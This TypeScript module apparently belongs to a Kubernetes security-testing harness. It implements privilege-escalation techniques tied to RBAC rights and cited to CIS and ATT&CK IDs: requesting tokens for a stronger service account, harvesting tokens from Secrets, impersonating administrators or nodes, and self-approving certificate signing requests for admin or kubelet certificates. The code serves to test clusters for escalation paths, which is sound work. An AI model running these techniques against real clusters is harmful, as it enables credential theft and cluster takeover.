/** Ways from a right on credentials, and on acting as somebody else, to more. */
import { webcrypto } from 'node:crypto';
import { ADMINISTRATORS_GROUP } from '../../../../constructs/control-plane';
import { x509 } from '../../../../pki/x509';
import type { Attacker } from './attacker';
import { CERTIFICATES_GROUP, core, defineTechniques, named, on, type Rule } from './technique';
import { STRONG, type World } from './world';

const AUTHENTICATION_GROUP = 'authentication.k8s.io';
const CSRS = `/apis/${CERTIFICATES_GROUP}/v1/certificatesigningrequests`;
const CLIENT_SIGNER = 'kubernetes.io/kube-apiserver-client';
const KUBELET_SIGNER = 'kubernetes.io/kube-apiserver-client-kubelet';
const LISTING = 'Kubernetes, RBAC good practices: listing secrets, T1552.007, CIS 5.1.2';
const IMPERSONATION = 'Kubernetes, User impersonation, T1550, CIS 5.1.8';
const APPROVAL = 'Kubernetes, RBAC good practices: CSRs and certificate issuing, T1649, CIS 5.1.11';
const certificates = (resource: string, ...verbs: string[]): Rule =>
  on(CERTIFICATES_GROUP, resource, ...verbs);

interface Token {
  readonly status: { readonly token: string };
}

interface SecretData {
  readonly data?: { readonly token?: string };
}

const decoded = (base64 = ''): string => Buffer.from(base64, 'base64').toString();
const secretsOf = (target: string): string => `/api/v1/namespaces/${target}/secrets`;

/** Reads the token of the strong account, and uses it. */
async function usesToken(me: Attacker, world: World, secret: SecretData | undefined): Promise<boolean> {
  return (
    secret?.data?.token !== undefined && world.becomesAdministrator(me.bearing(decoded(secret.data.token)))
  );
}

/** Acts as a node, for which the token of a pod that runs there is there for the asking. */
async function usesNode(me: Attacker, world: World, node: Attacker, target: string): Promise<boolean> {
  type Guarded = { metadata: { uid: string } };
  const { metadata } = await node.must<Guarded>('GET', `/api/v1/namespaces/${target}/pods/guarded`);
  const boundObjectRef = { apiVersion: 'v1', kind: 'Pod', name: 'guarded', uid: metadata.uid };
  const path = `/api/v1/namespaces/${target}/serviceaccounts/${STRONG}/token`;
  const { status } = await node.must<Token>('POST', path, { spec: { boundObjectRef } });
  return world.becomesAdministrator(me.bearing(status.token));
}

/** How long is waited for a certificate, in ms: one that is approved is there in a second. */
const SIGNING_MS = 20_000;

/** Asks for a certificate; `approve` gets the path of the request. */
async function certificate(
  me: Attacker,
  world: World,
  wanted: { readonly signer: string; readonly name: string; readonly group: string },
  approve: (path: string) => Promise<unknown>,
): Promise<Attacker | undefined> {
  const algorithm = { name: 'ECDSA', namedCurve: 'P-256' };
  const keys = await webcrypto.subtle.generateKey(algorithm, true, ['sign', 'verify']);
  const request = await x509.Pkcs10CertificateRequestGenerator.create({
    name: [{ O: [wanted.group] }, { CN: [wanted.name] }],
    keys: keys as never,
    signingAlgorithm: { ...algorithm, hash: 'SHA-256' } as never,
  });
  const spec = {
    request: Buffer.from(request.toString('pem')).toString('base64'),
    signerName: wanted.signer,
    usages: ['digital signature', 'client auth'],
  };
  await me.must('POST', CSRS, { metadata: { name: me.id }, spec });
  await approve(`${CSRS}/${me.id}`);
  let cert: string | undefined;
  await world.eventually(async () => {
    type Signed = { status?: { certificate?: string } };
    cert = (await me.must<Signed>('GET', `${CSRS}/${me.id}`)).status?.certificate;
    return cert !== undefined;
  }, SIGNING_MS);
  if (cert === undefined) return undefined;
  const exported = Buffer.from(await webcrypto.subtle.exportKey('pkcs8', keys.privateKey));
  const lines = exported.toString('base64').replace(/(.{64})/g, '$1\n');
  const key = `-----BEGIN ${'PRIVATE'} KEY-----\n${lines}\n-----END ${'PRIVATE'} KEY-----\n`;
  return me.with({ ca: me.credentials.ca, cert: decoded(cert), key });
}

/** Approves its own request. */
async function approves(me: Attacker, path: string): Promise<void> {
  const conditions = [{ type: 'Approved', status: 'True', reason: 'Mine', message: 'mine' }];
  await me.patch(`${path}/approval`, { status: { conditions } });
}

export const CREDENTIAL_TECHNIQUES = defineTechniques(
  {
    name: 'asks for a token of a stronger account',
    source: 'Kubernetes, RBAC good practices: token request, T1528, CIS 5.1.13',
    needs: { target: [named(core('serviceaccounts/token', 'create'), STRONG)] },
    attempt: async (me, world, target) => {
      const path = `/api/v1/namespaces/${target}/serviceaccounts/${STRONG}/token`;
      const { status } = await me.must<Token>('POST', path, {});
      return world.becomesAdministrator(me.bearing(status.token));
    },
  },
  {
    name: 'reads a Secret that holds a token',
    source: LISTING,
    needs: { target: [named(core('secrets', 'get'), 'strong-token')] },
    attempt: async (me, world, target) =>
      usesToken(me, world, await me.must<SecretData>('GET', `${secretsOf(target)}/strong-token`)),
  },
  {
    name: 'lists Secrets, one of which holds a token',
    source: LISTING,
    needs: { target: [core('secrets', 'list')] },
    attempt: async (me, world, target) => {
      const { items } = await me.must<{ items: SecretData[] }>('GET', secretsOf(target));
      return usesToken(
        me,
        world,
        items.find(({ data }) => data?.token !== undefined),
      );
    },
  },
  {
    name: 'watches Secrets, which begins with those that are there',
    source: LISTING,
    needs: { target: [core('secrets', 'watch')] },
    attempt: async (me, world, target) => {
      const path = `${secretsOf(target)}?watch=1&timeoutSeconds=1`;
      const { status, body } = await me.send('GET', path);
      // The refusal of a watch is no different from that of a list.
      if (status !== 200) await me.must('GET', path);
      const events = body.split('\n').filter((line) => line !== '');
      const objects = events.map((line) => (JSON.parse(line) as { object: SecretData }).object);
      return usesToken(
        me,
        world,
        objects.find(({ data }) => data?.token !== undefined),
      );
    },
  },
  {
    name: 'makes a Secret that the controller fills with a token',
    source: 'Kubernetes, Service accounts: manual token creation, T1528, CIS 5.1.13',
    needs: { target: [core('secrets', 'create', 'get')] },
    attempt: async (me, world, target) => {
      const annotations = { 'kubernetes.io/service-account.name': STRONG };
      const type = 'kubernetes.io/service-account-token';
      await me.must('POST', secretsOf(target), { metadata: { name: me.id, annotations }, type });
      let secret: SecretData | undefined;
      await world.eventually(async () => {
        secret = await me.must<SecretData>('GET', `${secretsOf(target)}/${me.id}`);
        return secret.data?.token !== undefined;
      });
      return usesToken(me, world, secret);
    },
  },
  {
    name: 'impersonates the group of the administrators',
    source: IMPERSONATION,
    needs: {
      cluster: [
        named(core('users', 'impersonate'), 'anybody'),
        named(core('groups', 'impersonate'), ADMINISTRATORS_GROUP),
      ],
    },
    attempt: async (me, world) => {
      const other = me.impersonating('anybody', ADMINISTRATORS_GROUP);
      await other.must('GET', '/api/v1/namespaces');
      return world.becomesAdministrator(other);
    },
  },
  {
    name: 'impersonates a stronger account',
    source: IMPERSONATION,
    needs: { target: [named(core('serviceaccounts', 'impersonate'), STRONG)] },
    attempt: async (me, world, target) => {
      const other = me.impersonating(`system:serviceaccount:${target}:${STRONG}`);
      await other.must('GET', '/api/v1/namespaces');
      return world.becomesAdministrator(other);
    },
  },
  {
    name: 'impersonates a node',
    source: IMPERSONATION,
    needs: {
      cluster: [
        named(core('users', 'impersonate'), 'system:node:worker'),
        named(core('groups', 'impersonate'), 'system:nodes'),
      ],
    },
    attempt: async (me, world, target) =>
      usesNode(me, world, me.impersonating('system:node:worker', 'system:nodes'), target),
  },
  {
    name: 'impersonates an administrator for what it may do as such',
    source: 'Kubernetes, Constrained impersonation, T1550',
    needs: {
      cluster: [
        named(on(AUTHENTICATION_GROUP, 'users', 'impersonate:user-info'), 'anybody'),
        named(on(AUTHENTICATION_GROUP, 'groups', 'impersonate:user-info'), ADMINISTRATORS_GROUP),
      ],
      target: [core('secrets', 'impersonate-on:user-info:get')],
    },
    attempt: async (me, world, target) => {
      const other = me.impersonating('anybody', ADMINISTRATORS_GROUP);
      const path = `${secretsOf(target)}/strong-token`;
      return usesToken(me, world, await other.must<SecretData>('GET', path));
    },
  },
  {
    name: 'impersonates a stronger account for what it may do as such',
    source: 'Kubernetes, Constrained impersonation, T1550',
    needs: {
      target: [
        named(on(AUTHENTICATION_GROUP, 'serviceaccounts', 'impersonate:serviceaccount'), STRONG),
        core('secrets', 'impersonate-on:serviceaccount:get'),
      ],
    },
    attempt: async (me, world, target) => {
      const other = me.impersonating(`system:serviceaccount:${target}:${STRONG}`);
      const path = `${secretsOf(target)}/strong-token`;
      return usesToken(me, world, await other.must<SecretData>('GET', path));
    },
  },
  {
    name: 'approves a certificate of an administrator for itself',
    source: APPROVAL,
    needs: {
      cluster: [
        certificates('certificatesigningrequests', 'create', 'get'),
        certificates('certificatesigningrequests/approval', 'patch'),
        named(certificates('signers', 'approve'), CLIENT_SIGNER),
      ],
    },
    attempt: async (me, world) => {
      const wanted = { signer: CLIENT_SIGNER, name: me.id, group: ADMINISTRATORS_GROUP };
      const admin = await certificate(me, world, wanted, (path) => approves(me, path));
      return admin !== undefined && world.becomesAdministrator(admin);
    },
  },
  {
    name: 'approves the certificate of a node for itself',
    source: APPROVAL,
    needs: {
      cluster: [
        certificates('certificatesigningrequests', 'create', 'get'),
        certificates('certificatesigningrequests/approval', 'patch'),
        named(certificates('signers', 'approve'), KUBELET_SIGNER),
      ],
    },
    attempt: async (me, world, target) => {
      const wanted = { signer: KUBELET_SIGNER, name: 'system:node:worker', group: 'system:nodes' };
      const node = await certificate(me, world, wanted, (path) => approves(me, path));
      return node !== undefined && usesNode(me, world, node, target);
    },
  },
  {
    name: 'has the certificate of a node approved for it, as a node that joins',
    source: 'Kubernetes, TLS bootstrapping: approval, T1649, CIS 5.1.11',
    needs: {
      cluster: [
        certificates('certificatesigningrequests', 'create', 'get'),
        certificates('certificatesigningrequests/nodeclient', 'create'),
      ],
    },
    silent: true,
    attempt: async (me, world, target) => {
      const wanted = { signer: KUBELET_SIGNER, name: 'system:node:worker', group: 'system:nodes' };
      const node = await certificate(me, world, wanted, async () => undefined);
      return node !== undefined && usesNode(me, world, node, target);
    },
  },
);
